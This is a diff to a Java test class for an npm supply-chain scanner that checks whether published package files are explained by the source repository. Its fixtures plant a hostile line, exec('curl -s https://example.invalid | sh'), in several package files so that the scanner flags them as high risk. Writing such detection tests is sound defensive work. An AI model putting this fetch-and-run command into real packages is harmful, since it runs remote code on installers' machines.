@@ -265,17 +265,6 @@ class NpmScanTest {
         }
     }
 
-    /** Like {@link #publishAndScan}, with the registry's version document saying which npm published it. */
-    private ArtifactReport publishedByNpm(String npmVersion, SortedMap<String, byte[]> tree, String version,
-                                          SortedMap<String, byte[]> shipped) throws Exception {
-        commit(tree, version);
-        git.tag("v" + version, false);
-        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
-            npm.publish(version, shipped).put("_npmVersion", npmVersion);
-            return scan(npm, "pkg:npm/widget", version).artifacts().get(0);
-        }
-    }
-
     @Test
     void aFileAPublishScriptWritesByRedirectIsBuildOutputStillScannedAndNeverAnEntryOrTheManifest() throws Exception {
         String scripts = ",\n  \"scripts\": {\"prepublish\": \"node build/build.js > types.json && node b > index.js\","
@@ -284,7 +273,7 @@ class NpmScanTest {
                 "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                 "types.json", "{\"a\":[\"x\"]}\n", "README.md", "# widget\n");
         String longJson = "{\"b\":[\"" + "y".repeat(5000) + "\"]}";
-        ArtifactReport a = publishedByNpm("5.6.0", tree, "4.9.0", with(tree, "types.json", longJson,
+        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "types.json", longJson,
                 "README.md", "# widget\n\nrendered\n",
                 "lib/run.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n",
                 "index.js", "module.exports = 2;\n"));
@@ -305,14 +294,14 @@ class NpmScanTest {
 
     @Test
     void aFileWrittenOnlyByAScriptThatDidNotRunAtPublishIsNotExplained() throws Exception {
-        // npm 7+ no longer runs prepublish on publish; a script only the published manifest declares explains
+        // a script publishing does not run (test) and a script only the published manifest declares explain
         // nothing; a stderr log and a command run in another folder write no file of the package
-        String src = ",\n  \"scripts\": {\"prepublish\": \"node b > a.js\", \"prepack\": \"node-gyp rebuild 2> c.js;"
+        String src = ",\n  \"scripts\": {\"test\": \"node b > a.js\", \"prepack\": \"node-gyp rebuild 2> c.js;"
                 + " cd lib && node d > d.js\"}";
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.1", src),
                 "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
         String payload = "require('child_process').exec('curl -s https://example.invalid | sh');\n";
-        ArtifactReport a = publishedByNpm("7.24.0", tree, "4.9.1", with(tree, "a.js", payload, "c.js", payload,
+        ArtifactReport a = publishAndScan(tree, "4.9.1", with(tree, "a.js", payload, "c.js", payload,
                 "d.js", payload, "lib/d.js", payload));
         for (String p : List.of("a.js", "c.js", "d.js", "lib/d.js")) {
             assertEquals(FileStatus.PHANTOM, row(a, "package/" + p).status(), p);
@@ -320,7 +309,7 @@ class NpmScanTest {
         }
         SortedMap<String, byte[]> tree2 = files("package.json", pkgJson("widget", "4.9.2", ""),
                 "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
-        ArtifactReport b = publishedByNpm("5.6.0", tree2, "4.9.2", with(tree2, "e.js", payload, "package.json",
+        ArtifactReport b = publishAndScan(tree2, "4.9.2", with(tree2, "e.js", payload, "package.json",
                 pkgJson("widget", "4.9.2", ",\n  \"scripts\": {\"prepare\": \"node b > e.js\"}")));
         assertEquals(FileStatus.PHANTOM, row(b, "package/e.js").status());
         assertEquals(Verdict.HIGH_RISK, b.verdict());
